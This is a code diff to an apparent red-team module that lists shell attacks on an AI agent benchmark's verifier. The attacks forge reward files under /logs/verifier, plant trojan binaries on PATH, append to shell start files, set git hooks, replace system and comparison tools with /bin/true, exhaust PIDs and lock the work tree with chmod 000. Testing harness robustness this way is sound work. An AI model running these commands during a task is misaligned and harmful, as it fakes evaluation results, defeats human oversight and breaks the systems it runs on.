@@ -13,6 +13,7 @@ from __future__ import annotations
 from dataclasses import dataclass
 
 PAYLOAD = 'echo 1 > /logs/verifier/reward.txt; echo \'{"reward": 1}\' > /logs/verifier/reward.json'
+PAYLOAD_TXT = "echo 1 > /logs/verifier/reward.txt"  # no quotes: embeds in any script
 PY_PAYLOAD = ("import os\\ntry:\\n    open('/logs/verifier/reward.txt','w').write('1')\\n"
               "    open('/logs/verifier/reward.json','w').write('{\\\"reward\\\": 1}')\\nexcept OSError:\\n    pass\\n")  # fmt: skip
 
@@ -44,15 +45,17 @@ ATTACKS = [
            f"printf '{PY_PAYLOAD}' > /app/sitecustomize.py",
            "a .pth file and usercustomize in the user site-packages, sitecustomize in the work dir"),
     Attack("path_trojans", "for d in $HOME/bin $HOME/.local/bin /app/bin /usr/local/bin /usr/local/sbin; do mkdir -p $d 2>/dev/null; "
-           f"for b in python3 python pytest bash sh cat diff cmp test tr grep timeout env; do printf '#!/bin/sh\\n{PAYLOAD.replace(chr(39), chr(34))}\\nexit 0\\n' > $d/$b 2>/dev/null; chmod +x $d/$b 2>/dev/null; done; done; "
+           f"for b in python3 python pytest bash sh cat diff cmp test tr grep timeout env; do printf '#!/bin/sh\\n{PAYLOAD_TXT}\\nexit 0\\n' > $d/$b 2>/dev/null; chmod +x $d/$b 2>/dev/null; done; done; "
            "echo 'export PATH=$HOME/bin:$PATH' | tee -a $HOME/.bashrc $HOME/.profile $HOME/.bash_profile >/dev/null",
            "fake python3/bash/cat... earlier on PATH, and a PATH change in the shell start files"),
     Attack("shell_start_files", f"for f in $HOME/.bashrc $HOME/.profile $HOME/.bash_profile /etc/bash.bashrc /etc/profile /root/.bashrc; do "
-           f"echo '{PAYLOAD.replace(chr(39), chr(34))}' >> $f 2>/dev/null; done; true",
+           f"echo '{PAYLOAD_TXT}' >> $f 2>/dev/null; done; true",
            "shell start files that write the reward when a shell starts"),
     Attack("replace_system_binaries", "for b in /bin/sh /bin/bash /usr/bin/python3 /usr/bin/timeout /usr/bin/env /usr/bin/cmp; do "
            f"cp /bin/true $b 2>/dev/null || printf '#!/bin/true\\n' > $b 2>/dev/null; done; true",
            "replace the shell, python3 and the tools the verifier runs with `true`"),
+    Attack("fake_compare_tools", "for b in cmp diff comm sha256sum md5sum; do p=$(command -v $b) && cp /bin/true \"$p\" 2>/dev/null; done; true",
+           "make the tools checks compare with always succeed (the harness's own shell untouched)"),
     Attack("background_rewriter", "nohup bash -c 'while true; do " + PAYLOAD.replace("'", '"') + " 2>/dev/null; sleep 0.02; done' > /dev/null 2>&1 &",
            "a background process that writes the reward while the verifier runs"),
     Attack("exhaust_pids", "for i in $(seq 2000); do (nohup sleep 3600 > /dev/null 2>&1 &) 2>/dev/null || break; done; true",
@@ -63,9 +66,9 @@ ATTACKS = [
     Attack("rewrite_task_data", "find /app -maxdepth 3 -type f ! -name '.*' -exec sh -c 'echo 1 > \"$1\"' _ {} \\; 2>/dev/null; "
            "echo 1 > /app/answer.txt; true",
            "rewrite the task's data (and answer) to a constant the checks may agree with"),
-    Attack("git_config_hooks", f"git config --global core.fsmonitor 'sh -c \"{PAYLOAD.replace(chr(39), chr(92) + chr(34)).replace(chr(34) + chr(123), chr(123))}\"' 2>/dev/null; "
+    Attack("git_config_hooks", f"git config --global core.fsmonitor '{PAYLOAD_TXT}' 2>/dev/null; "
            "git config --global core.pager cat 2>/dev/null; for r in $(find /app -name .git -type d 2>/dev/null); do "
-           f"printf '#!/bin/sh\\n{PAYLOAD.replace(chr(39), chr(34))}\\n' > $r/hooks/post-checkout; chmod +x $r/hooks/post-checkout; done; true",
+           f"printf '#!/bin/sh\\n{PAYLOAD_TXT}\\n' > $r/hooks/post-checkout; chmod +x $r/hooks/post-checkout; done; true",
            "git configuration and hooks that run when the verifier uses git"),
     Attack("unreadable_work_tree", "chmod -R 000 /app 2>/dev/null; chmod 000 /logs/agent 2>/dev/null; true",
            "make the work tree unreadable so the verifier errors (escape to infra_error)"),
